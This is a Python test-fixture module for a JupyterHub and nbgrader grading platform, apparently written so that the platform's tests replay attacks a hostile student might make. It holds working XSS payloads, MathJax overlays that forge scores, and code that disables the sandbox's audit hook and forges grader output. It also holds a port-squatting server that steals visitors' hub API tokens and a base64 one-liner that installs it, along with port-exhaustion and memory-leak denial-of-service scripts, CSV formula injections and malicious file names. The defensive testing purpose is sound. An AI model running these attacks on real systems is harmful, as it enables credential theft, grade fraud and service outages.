"""Attacks a clever student plays, each written once and run by every test where it applies.

A test imports the attack it plays from here (``from attacks import HOSTILE``):
the grader's own tests, the pages that show a student's work and the hub's
browser tests then play the same attack.
"""

import csv
import io
import json
import re
import unicodedata

#: Each attack of the hostile written answer; every one tries to set window.pwned.
ATTACKS = {
    "script": "<script>window.pwned = 'script'</script>",
    "img onerror": '<img src="x" onerror="window.pwned = \'img\'">',
    "svg onload": '<svg onload="window.pwned = \'svg\'"><circle r="5"/></svg>',
    "iframe": '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    "javascript link": "[click me](javascript:window.pwned='md-link')",
    "mixed-case scheme": '<a href="JaVaScRiPt:window.pwned=\'a\'">and me</a>',
    "data link": "[or me](data:text/html;base64,PHNjcmlwdD5wd25lZDwvc2NyaXB0Pg==)",
    "data image": '<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="a picture">',
    "style": "<style>body { display: none }</style>",
    "refresh": '<meta http-equiv="refresh" content="0; url=https://pwned.example/">',
    "formgrader api":
        "<script>fetch(base_url + '/api/grade/1', {method: 'PUT'})</script>",
    # a tracking pixel: tells its owner when, where and by whom the work is read
    "remote image": "![a plot](https://tracker.example/pixel.png)",
    "raw remote image": '<img src="http://tracker.example/raw.png" alt="a plot">',
}
HOSTILE = "My answer.\n\n" + "\n\n".join(f"Attack {i}: {attack}"
                                          for i, attack in enumerate(ATTACKS.values()))

#: A formula in a written answer that MathJax, not the feedback's MathML, typesets
#: (latex2mathml cannot convert ``\color``): MathJax's own ``\mmlToken`` gives
#: the K a link to a script, a style, a class and an id, and a size and colour
#: that make the link an invisible area over the page.  The TeX is kept as
#: written (it is text); each page that typesets it must make it inert.
MATHS_LINK = ('$\\color{black}{\\mmlToken{mi}[href="javascript:window.pwned=\'mml\';'
              'document.title=\'pwned\';void 0",mathsize="80em",mathcolor="white",'
              'style="position:fixed;top:0;left:0",class="x",id="y"]{K}}$')

#: Formulas in a written answer that paint over the page outside their own box
#: (MathJax draws a formula's SVG with overflow visible): the first, as it won,
#: blacks out a score heading 5,000 px above it and writes "Score: 16.0 / 16.0"
#: beside it; the second covers everything below it for 600 em, the third, a
#: display, everything above it (a score, the autograder's FAIL lines).  Each
#: uses only MathJax's base TeX (\smash, \raise, \lower, \rlap, \kern, \rule);
#: the last is MathML on the feedback page.
OVERLAYS = {
    "raise": (r"$\smash{\raise{5020px}{\rlap{\kern{-43px}\rule{186px}{30px}}}}"
              r"\smash{\raise{5028px}{\rlap{\kern{154px}\large\textsf{ps1 (Score: 16.0 / 16.0)}}}}"
              r"\text{(details in class)}$"),
    "lower": (r"$\smash{\lower{600em}{\rlap{\kern{-400em}\rule{800em}{600em}}}}"
              r"\text{(see below)}$"),
    "display": (r"$$\smash{\raise{1em}{\rlap{\kern{-400em}\rule{800em}{600em}}}}"
                r"\smash{\raise{2em}{\rlap{\textsf{All checks passed}}}}\text{(see above)}$$"),
    # latex2mathml writes this one out as MathML, drawn with scripts off too:
    # 40 fake scores stacked in a box of no height, 60 em to the left
    "mathml": (r"$\hspace{-60em}\smash{\begin{matrix}"
               + r"\\".join([r"\text{ps1 (Score: 16.0 / 16.0)}"] * 40)
               + r"\end{matrix}}\text{(details in class)}$"),
}

#: In a page (``page.evaluate(OVERLAID, [targets, cells])``): how many places
#: it checked and each element the CSS selector ``targets`` picks (a score
#: heading, an output holding FAIL lines) that is not what the browser finds at
#: its own position (each line of it that says FAIL, or its middle), and each
#: part of a formula inside a
#: cell ``cells`` picks that is drawn outside that cell.  A part is drawn
#: where its box meets the boxes of every ancestor that clips (overflow other
#: than visible, or paint containment); the page is also hit-tested on a grid,
#: screen by screen, for any point outside the cells where a formula is found.
#: Within 5 px of a cell counts as inside (a formula's clip leaves 4 px).
OVERLAID = r"""([targets, cells]) => {
    const covered = [], outside = [], hits = [];
    const near = 5;    // px: a formula's clip lets an honest glyph's edge reach 4 px out
    let checked = 0;
    const owner = e => e && e.closest('mjx-container, math');
    for (const target of document.querySelectorAll(targets)) {
        const walker = document.createTreeWalker(target, NodeFilter.SHOW_TEXT);
        const spots = [];
        for (let n = walker.nextNode(); n; n = walker.nextNode()) {
            for (const m of n.textContent.matchAll(/FAIL/g)) {
                const range = document.createRange();
                range.setStart(n, m.index);
                range.setEnd(n, m.index + 4);
                spots.push(range);
            }
        }
        if (!spots.length) spots.push(target);
        for (const spot of spots) {
            checked += 1;
            (spot.startContainer ? spot.startContainer.parentElement : spot)
                .scrollIntoView({block: 'center'});
            const r = spot.getBoundingClientRect();
            const x = r.left + r.width / 2, y = r.top + r.height / 2;
            const found = document.elementFromPoint(x, y);
            if (!found || !(target === found || target.contains(found)))
                covered.push({target: target.textContent.trim().slice(0, 60),
                              found: found ? found.outerHTML.slice(0, 80) : null});
        }
    }
    const clips = e => {
        const s = getComputedStyle(e);
        return s.overflowX !== 'visible' || s.overflowY !== 'visible'
            || /paint|strict|content/.test(s.contain);
    };
    const boxes = [...document.querySelectorAll(cells)];
    for (const cell of boxes) {
        const c = cell.getBoundingClientRect();
        for (const formula of cell.querySelectorAll('mjx-container, math')) {
            if (formula.parentElement.closest('mjx-container, math')) continue;
            for (const part of [formula, ...formula.querySelectorAll('*')]) {
                if (part.closest('mjx-assistive-mml')) continue;   // hidden, for readers
                let r = part.getBoundingClientRect();
                if (!r.width && !r.height) continue;
                let [l, t, rt, b] = [r.left, r.top, r.right, r.bottom];
                for (let a = part.parentElement; a && a !== cell; a = a.parentElement) {
                    if (!clips(a)) continue;
                    const q = a.getBoundingClientRect();
                    [l, t, rt, b] = [Math.max(l, q.left), Math.max(t, q.top),
                                     Math.min(rt, q.right), Math.min(b, q.bottom)];
                }
                if (rt <= l || b <= t) continue;                       // clipped away
                if (l < c.left - near || t < c.top - near || rt > c.right + near
                    || b > c.bottom + near)
                    outside.push({part: part.localName, box: [l, t, rt, b].map(Math.round),
                                  cell: [c.left, c.top, c.right, c.bottom].map(Math.round)});
            }
        }
    }
    const step = 24, height = innerHeight, width = innerWidth;
    for (let top = 0; top < document.documentElement.scrollHeight; top += height) {
        window.scrollTo(0, top);
        const rects = boxes.map(b => b.getBoundingClientRect());
        for (let y = 1; y < height; y += step) for (let x = 1; x < width; x += step) {
            if (rects.some(r => x >= r.left - near && x <= r.right + near
                                && y >= r.top - near && y <= r.bottom + near))
                continue;
            const found = owner(document.elementFromPoint(x, y));
            if (found && boxes.some(b => b.contains(found)))
                hits.push([x, Math.round(y + scrollY)]);
        }
    }
    window.scrollTo(0, 0);
    return {checked, covered, outside: outside.slice(0, 20), outsideCount: outside.length,
            hits: hits.slice(0, 20), hitCount: hits.length};
}"""

#: Written answers that lift a block of fake results over what stands above
#: them with tags the cleaner keeps: Bootstrap's ``<sup>`` moves up half a line
#: with no line height, and each ``<h3>`` sets the size again, so each level
#: lifted the ``<pre>`` about 9 px more (20 and 46 levels: the FAIL lines of
#: the check right above, on the feedback page and Formgrader's).
LIFTED_RESULTS = "witness [counterexample]: 7 of 7 checks passed\n  3 of 3 hidden checks passed"
LIFTS = ["My answer: " + "<sup><h3>" * depth + f"<pre>{LIFTED_RESULTS}</pre>"
         + "</h3></sup>" * depth for depth in (20, 46)]


#: A written answer whose one word is longer than any line (400 letters, no
#: space), in a paragraph, a list item and inline code: without a rule that
#: breaks it, it ran 144 px past its cell at 1280 px and made a phone's page
#: scroll sideways (Formgrader's grading page and the feedback).
LONG_WORD = "kernel" * 66 + "ized"
LONG_ANSWER = f"My answer: {LONG_WORD}.\n\n- {LONG_WORD}\n\n`{LONG_WORD}`"
#: The word in a formula's text: at its start, after an equation's left side,
#: in a list item.
LONG_TEXT_ANSWER = (f"My answer: $\\text{{{LONG_WORD}}}$, then $x = \\text{{{LONG_WORD}}} + 1$."
                    f"\n\n- $\\text{{{LONG_WORD}}}$")

#: In a page (``page.evaluate(BOXED, [cells, word])``): for each formula in a
#: cell of ``cells`` whose text holds ``word``, whether it is in a box of its
#: own that scrolls (``.math-wide``), how far (px) that box, or the formula
#: when in none, reaches past the cell's right edge, whether the keyboard can
#: reach the box, how far the formula's text reaches past what the box can
#: scroll to (or, in none, past the formula's own box, which clips it), and on
#: how many lines the word is drawn; and how much wider than the window the
#: page is.
BOXED = r"""([cells, word]) => {
    const found = [];
    for (const cell of document.querySelectorAll(cells)) {
        const edge = cell.getBoundingClientRect().right;
        for (const math of cell.querySelectorAll('math')) {
            const text = [...math.querySelectorAll('mtext')]
                .find(t => t.textContent.includes(word));
            if (!text) continue;
            const box = math.closest('.math-wide');
            const range = document.createRange();
            range.selectNodeContents(text);
            const rects = [...range.getClientRects()].filter(r => r.width > 0);
            range.selectNodeContents(math);
            const right = Math.max(...[...range.getClientRects()].map(r => r.right));
            const shown = (box || math).getBoundingClientRect();
            found.push({
                boxed: !!box,
                past: Math.max(0, Math.round(shown.right - edge)),
                keyboard: !!box && box.tabIndex === 0,
                unreachable: Math.max(0, Math.round(
                    right - (box ? shown.left + box.scrollWidth : shown.right))),
                lines: new Set(rects.map(r => Math.round(r.top))).size});
        }
    }
    return {found, wider: Math.max(0, document.documentElement.scrollWidth - window.innerWidth),
            window: window.innerWidth};
}"""

#: In a page (``page.evaluate(OVERFLOWED, [cells, word])``): for each cell the
#: CSS selector ``cells`` picks that holds ``word``, how far (px) the word's
#: farthest line box reaches past the cell's right edge (0 if inside; a list
#: of one number per occurrence), and how much wider than the window the page
#: is (0 when it does not scroll sideways).
OVERFLOWED = r"""([cells, word]) => {
    const past = [];
    for (const cell of document.querySelectorAll(cells)) {
        const edge = cell.getBoundingClientRect().right;
        const walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
        for (let node = walker.nextNode(); node; node = walker.nextNode()) {
            const at = node.data.indexOf(word);
            if (at < 0) continue;
            const range = document.createRange();
            range.setStart(node, at);
            range.setEnd(node, at + word.length);
            const right = Math.max(...[...range.getClientRects()].map(r => r.right));
            past.push(Math.max(0, Math.round(right - edge)));
        }
    }
    return {past, wider: Math.max(0, document.documentElement.scrollWidth - window.innerWidth),
            window: window.innerWidth};
}"""


#: Outputs of a code cell of mallory's (display is IPython's; nothing else in it).
HOSTILE_CODE = """\
try:
    from IPython.display import HTML, Markdown, display
    display(HTML('<img src="x" onerror="window.pwned = 1"><b>bold output</b>'))
    display(Markdown("[out](javascript:window.pwned=2) <svg onload='pwned=3'></svg>"))
    display(HTML('<iframe src="javascript:window.pwned=4"></iframe><style>*{}</style>'))
except Exception:
    pass
"""


# -- the grading sandbox -----------------------------------------------------------
# Code a student puts in an answer cell to get at what the sandbox and the audit
# hook keep from it.  The sandbox's unit tests (grading/test_grading_unit.py,
# grading/test_sandbox_boundary.py) run each against one part, and the class
# graded through nbgrader (grading/test_assignments_robustness.py) runs it in a
# submission among honest ones, with the score it must get.

#: Defines ``_disable_guard()``: switch off the in-process audit hook by editing
#: the globals of the hook's frame, reached through the traceback of a refused
#: operation.  Only the kernel's rules (the sandbox's mounts, Landlock) stand
#: after that.
DISABLE_GUARD = """
import os

def _disable_guard():
    try:
        open("/proc/1/environ", "rb")
    except Exception as exc:
        tb = exc.__traceback__
        while tb.tb_next is not None:
            tb = tb.tb_next
        g = tb.tb_frame.f_globals
        g["_under"] = lambda path, roots: False
        for name in ("FORBIDDEN_MODULES", "ESCAPE_MODULES", "_ESCAPE_MODULES"):
            if name in g:
                g[name] = ()
        for name in ("_BLOCKED_EVENTS", "_BLOCKED", "_PATH_WRITE_EVENTS", "_WRITE_EVENTS",
                     "_PATH_EVENTS"):
            if name in g:
                g[name] = frozenset()
"""


def forged_part(cells, func, cases=16):
    """Code to append to a right ``is_kernel``: on its last case (of ``cases``: ps1's
    part 3 asks about sixteen candidates, all public), it
    answers that case on the grader's channel itself, reopens the grader's pipe
    through /proc/self/fd/0 with a folder descriptor the audit hook cannot
    follow, writes there a forged part (``cells`` defining ``func``, which would
    answer the next part's cases) and leaves."""
    forged = json.dumps({"cells": list(cells), "func": func})
    return f"""
import json, os

_FORGED = {forged!r}.encode()
_calls = []

def is_kernel(name, _honest=is_kernel):
    _calls.append(name)
    if len(_calls) < {cases}:
        return _honest(name)
    os.write(3, json.dumps({{"case": {cases - 1}, "value": _honest(name)}}).encode() + b"\\n")
    me = os.open("/proc/self", os.O_RDONLY | os.O_DIRECTORY)
    pipe = os.open("fd/0", os.O_WRONLY, dir_fd=me)     # the grader's pipe, reopened
    os.write(pipe, b"%d\\n" % len(_FORGED) + _FORGED)
    os._exit(0)
"""


#: A function that kills its own process.
KILL_SELF = """
import os, signal

def {func}(*args):
    os.kill(os.getpid(), signal.SIGKILL)
"""


#: Ids and names a student writes so that a spreadsheet opening an export runs
#: them, with the cell every export must write for each: a leading apostrophe
#: is a quote to a reader that takes ``'`` as its quote (``x;'=1+1'`` read with
#: ``;`` and ``'`` is the cell ``=1+1``), so where a reader may start a field
#: inside a cell, the mark is an underscore.
SPREADSHEET_FORMULAS = {
    "'=HYPERLINK(\"http://x\",\"y\")": "'=HYPERLINK(\"http://x\",\"y\")",  # whole: text
    ";=1+1": ";_=1+1",
    "';=1+1": "';_=1+1",
    "x;'=1+1'": "x;_'=1+1'",
    "Eve;''=SUM(1+1)": "Eve;_''=SUM(1+1)",
    "Mo\t'@cmd|' /C calc'!A0": "Mo\t_'@cmd|' /C calc'!A0",
    "n,'+2+3": "n,_'+2+3",
    "Ann;-3;=1": "Ann;_-3;_=1",
    "=1+1": "'=1+1",
    "-\uff13": "'-\uff13",          # a full-width digit: not a plain number
    "Ann;-\u0663": "Ann;_-\u0663",  # an Arabic-Indic digit after a separator
}

#: How a spreadsheet may read a CSV or a text list: each separator a locale or
#: a text import uses, with ``"`` or ``'`` as its quote (spaces before it
#: skipped or not), or with no quote at all.
SPREADSHEET_READERS = (
    [dict(delimiter=d, quotechar=q, skipinitialspace=s)
     for d in ",;\t| " for q in "\"'" for s in (False, True)]
    + [dict(delimiter=d, quoting=csv.QUOTE_NONE) for d in ",;\t| "])


def opens_as_formula(cell):
    """Whether a spreadsheet runs ``cell`` (as a reader made it) as a formula:
    past every space, control and format character, its first character (or
    that character's compatibility form) starts a formula, and it is not a
    plain number."""
    if re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell):
        return False
    rest = cell.lstrip("".join(ch for ch in set(cell)
                               if unicodedata.category(ch)[0] in "ZC" and ch not in "\t\r"))
    return bool(rest) and unicodedata.normalize("NFKC", rest[0])[0] in "=+-@\t\r"


def spreadsheet_formulas(text):
    """Every (reader, cell) of ``text``, a CSV or a list, that a spreadsheet
    reading it as one of :data:`SPREADSHEET_READERS` would run as a formula."""
    return [(reader, cell) for reader in SPREADSHEET_READERS
            for row in csv.reader(io.StringIO(text, newline=""), **reader)
            for cell in row if opens_as_formula(cell)]


#: A student's stand-in for her own server (run as ``python3 squat.py PORT NAME``
#: in a JupyterLab terminal, after which she kills the server): it binds the
#: server's port once it is free and answers every /user/NAME/ request with a
#: page whose script, on the hub's origin, makes the visitor's browser create a
#: hub API token of the visitor's and posts it back to the student.  Its log,
#: ``~/squat.log``, says each way binding failed (once) and when it bound; the
#: tokens it got are appended to ``~/loot.txt``.
PORT_SQUATTER = r'''
import errno, http.server, os, sys, time
port, me = int(sys.argv[1]), sys.argv[2]
home = os.path.expanduser("~")
def log(line):
    with open(os.path.join(home, "squat.log"), "a") as f:
        f.write(line + "\n")
PAGE = """<!doctype html><title>notes</title><body>loading notes...<script>
(async () => {
  const home = await (await fetch('/hub/home')).text();
  const xsrf = (home.match(/name="_xsrf" value="([^"]+)"/)
                || home.match(/xsrf_token\\s*[:=]\\s*"([^"]+)"/) || [])[1]
            || (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || '';
  const who = await (await fetch('/hub/api/user', {headers: {'X-XSRFToken': xsrf}})).json();
  const r = await fetch('/hub/api/users/' + who.name + '/tokens', {method: 'POST',
      headers: {'Content-Type': 'application/json', 'X-XSRFToken': xsrf},
      body: JSON.stringify({note: 'squatted', expires_in: 3600})});
  await fetch('/user/ME/loot', {method: 'POST',
      body: JSON.stringify({who: who.name, status: r.status, token: await r.text()})});
  document.body.textContent = 'squatted';
})();
</script></body>""".replace("ME", me)
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = PAGE.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def do_POST(self):
        data = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        with open(os.path.join(home, "loot.txt"), "ab") as f:
            f.write(data + b"\n")
        self.send_response(204)
        self.end_headers()
    def log_message(self, *args):
        log("request " + (args[0] % args[1:]))
log(f"started {port}")
seen, server, end = set(), None, time.time() + 60
while server is None and time.time() < end:
    try:
        server = http.server.HTTPServer(("127.0.0.1", port), Page)
    except OSError as e:
        if e.errno not in seen:
            seen.add(e.errno)
            log(f"refused {errno.errorcode.get(e.errno, e.errno)}")
        time.sleep(0.05)
if server is not None:
    log(f"bound {port}")
    server.timeout = 1
    while time.time() < end:
        server.handle_request()
log("done")
'''

#: The line the student types into a JupyterLab terminal of her server: write the
#: squatter (:data:`PORT_SQUATTER` compressed with gzip, in base64: ``{squatter}``), read the server's
#: port from the terminal's environment, note the terminal's capabilities, start
#: the squatter in a session of its own and kill the server (the terminal's
#: parent).
SQUAT_LINE = ("echo {squatter} | base64 -d | gunzip > ~/squat.py; "
              "P=$(echo $JUPYTERHUB_SERVICE_URL | cut -d: -f3 | cut -d/ -f1); "
              "echo $P > ~/squat.port; grep ^Cap /proc/self/status > ~/squat.caps; "
              "setsid nohup python3 ~/squat.py $P $USER >/dev/null 2>&1 </dev/null & "
              "sleep 1; kill -9 $PPID")

#: A student's process that tries, over and over, to take the ports of the hub and
#: its services (``python - WATCHED PORT...``), while one of those services is down:
#: each round binds every port on loopback and on every address and notes how the
#: bind ended (``bound``, or the error's name); it lets go at once (a real squatter
#: would keep the port and serve on it), so that the hub's service can come back.
#: It watches whether anything listens on port WATCHED (``/proc/net/tcp``, which
#: every user may read), and ends once that port was free and is listened on again,
#: or after 120 s. It writes ``~/take.ready`` when it starts, and prints what it saw
#: as JSON: ``outcomes`` ({port: {outcome: rounds}}), ``rounds_free`` (rounds while
#: WATCHED was free) and ``back`` (WATCHED listened on again).
SERVICE_PORT_TAKER = r'''
import errno, json, os, socket, sys, time
watched, ports = int(sys.argv[1]), [int(p) for p in sys.argv[2:]]
def listened(port):
    with open("/proc/net/tcp") as f:
        rows = [line.split() for line in f.readlines()[1:]]
    return any(int(row[1].split(":")[1], 16) == port and row[3] == "0A" for row in rows)
outcomes = {port: {} for port in ports}
rounds_free, gone, back = 0, False, False
open(os.path.expanduser("~/take.ready"), "w").close()
end = time.time() + 120
while time.time() < end and not back:
    free = not listened(watched)
    gone = gone or free
    back = gone and not free
    rounds_free += free
    for port in ports:
        for address in ("127.0.0.1", "0.0.0.0"):
            s = socket.socket()
            try:
                s.bind((address, port))
                s.listen()
                outcome = "bound"
            except OSError as e:
                outcome = errno.errorcode.get(e.errno, str(e.errno))
            finally:
                s.close()
            outcomes[port][outcome] = outcomes[port].get(outcome, 0) + 1
    time.sleep(0.02)
print(json.dumps({"outcomes": outcomes, "rounds_free": rounds_free, "back": back}))
'''

#: Every port of the range the kernel takes outgoing connections' ports from
#: (``net.ipv4.ip_local_port_range``, 32768-60999 by default), bound and held,
#: as a student plays it from her kernel: processes of hers, each raising its
#: open files to the hard limit and binding its share of the range. In the
#: machine's network namespace this made every new outgoing TCP connection fail
#: with EADDRNOTAVAIL, root's included, and the proxy answer 503 to the class.
#: Run with a folder: it writes there how many processes it runs (``processes``),
#: and each of them how many ports it bound (``bound-<pid>``), then holds them
#: until the folder's file ``stop`` exists (or ten minutes pass).
EPHEMERAL_PORT_TAKER = r"""
import os, resource, socket, sys, time
folder = sys.argv[1]
low, high = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
share = max(256, min(hard, 1 << 16) - 64)
ports = list(range(low, high + 1))
shares = [ports[i:i + share] for i in range(0, len(ports), share)]
with open(os.path.join(folder, "processes"), "w") as f:
    f.write(str(len(shares)))
for mine in shares[1:]:
    if os.fork() == 0:
        break
else:
    mine = shares[0]
held = []
for port in mine:
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)   # past her own TIME_WAITs
    try:
        s.bind(("0.0.0.0", port))
    except OSError:
        s.close()
        continue
    held.append(s)
with open(os.path.join(folder, f"bound-{os.getpid()}"), "w") as f:
    f.write(str(len(held)))
end = time.time() + 600
while time.time() < end and not os.path.exists(os.path.join(folder, "stop")):
    time.sleep(0.2)
"""

#: Memory kept past a server's cap, as a student plays it with python3 and ctypes
#: in her kernel or terminal: 24 MiB of System V shared memory made
#: (``shmget(IPC_PRIVATE, ..., IPC_CREAT | 0600)``), attached, filled and
#: detached, and never removed (no ``IPC_RMID``): with ``kernel.shm_rmid_forced``
#: 0, the kernel keeps it, hers, after her last process exits.  Prints the id of
#: the process that made it.
SYSV_SEGMENT = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmat.restype = ctypes.c_void_p
libc.shmdt.argtypes = [ctypes.c_void_p]
size = 24 << 20
shmid = libc.shmget(0, size, 0o1000 | 0o600)
assert shmid >= 0, os.strerror(ctypes.get_errno())
address = libc.shmat(shmid, None, 0)
assert address not in (None, 2**64 - 1), os.strerror(ctypes.get_errno())
ctypes.memset(address, 1, size)
assert libc.shmdt(address) == 0
print(os.getpid())
"""

#: A file name that is a page's markup: a script run from the location's hash,
#: wherever a listing of her files is shown as HTML.  A submission may also hold
#: a folder named ``timestamp.txt`` (the name the collect writes the service's
#: time to); both are file names she picks in her problem set's folder.
MARKUP_FILE_NAME = "<svg onload=eval(decodeURIComponent(location.hash.slice(1)))>"
TIMESTAMP_FOLDER_FILE = "timestamp.txt/x"
#: Other names a submitted file may not have, each with the character it is
#: refused for: a quote that ends an HTML attribute, Windows' folder separator,
#: a hidden file, a control character.
REFUSED_FILE_NAMES = {MARKUP_FILE_NAME: "'<'", 'x" onmouseover="alert(1).txt': "'\"'",
                      "..\\..\\notes.txt": "'\\'", ".hidden": "'.'",
                      "tab\there": "U+0009", TIMESTAMP_FOLDER_FILE: "timestamp.txt"}
#: Names honest students give the files they hand in beside the notebook: an
#: apostrophe (straight and typographic), spaces, accented letters, other scripts.
HONEST_FILE_NAMES = ["Ada's notes.txt", "data/données été 2026.csv", "Zoë’s plot.png",
                     "заметки/Ångström (v2) & co.md"]


#: GETs written by hand on a socket of their own, from a chosen loopback address, with
#: headers of her choosing (``send``), and a flood of them with big headers and a
#: classmate's address in ``X-Real-IP`` (``flood``): source text, standard library
#: only, run as it is in a student's kernel or, through ``exec``, by a test.
RAW_GET = '''
import json, socket

def send(port, path, headers, source=None):
    with socket.create_connection(("127.0.0.1", port), timeout=30,
                                  source_address=(source, 0) if source else None) as s:
        s.sendall(("GET %s HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n%s\\r\\n"
                   % (path, headers)).encode())
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    return int(data.split(b" ", 2)[1]) if data else None

def flood(port, path, n, real_ip, fillers, source=None):
    headers = "X-Real-IP: %s\\r\\n" % real_ip + "".join(
        "X-Filler-%d: %s\\r\\n" % (i, "a" * 1000) for i in range(fillers))
    return [send(port, path, headers, source) for _ in range(n)]
'''

#: Requests pipelined as fast as a server answers them: ``pipelined(port, paths,
#: connections, seconds)`` sends each connection's requests for ``paths`` at once,
#: reads for ``seconds`` and answers {status: count} of what came back. Standard
#: library only: run in a student's kernel too.
PIPELINED = '''
import re, socket, threading, time

def pipelined(port, paths, connections, seconds, source=None):
    counts, lock = {}, threading.Lock()
    end = time.monotonic() + seconds
    def one():
        s = socket.create_connection(("127.0.0.1", port), timeout=1,
                                     source_address=(source, 0) if source else None)
        s.sendall(b"".join(b"GET %s HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" % p.encode()
                           for p in paths))
        got = b""
        while time.monotonic() < end:
            try:
                part = s.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                break
            if not part:
                break
            got += part
        s.close()
        with lock:
            for status in re.findall(rb"HTTP/1.1 (\\d{3}) ", got):
                counts[int(status)] = counts.get(int(status), 0) + 1
    threads = [threading.Thread(target=one) for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return counts
'''
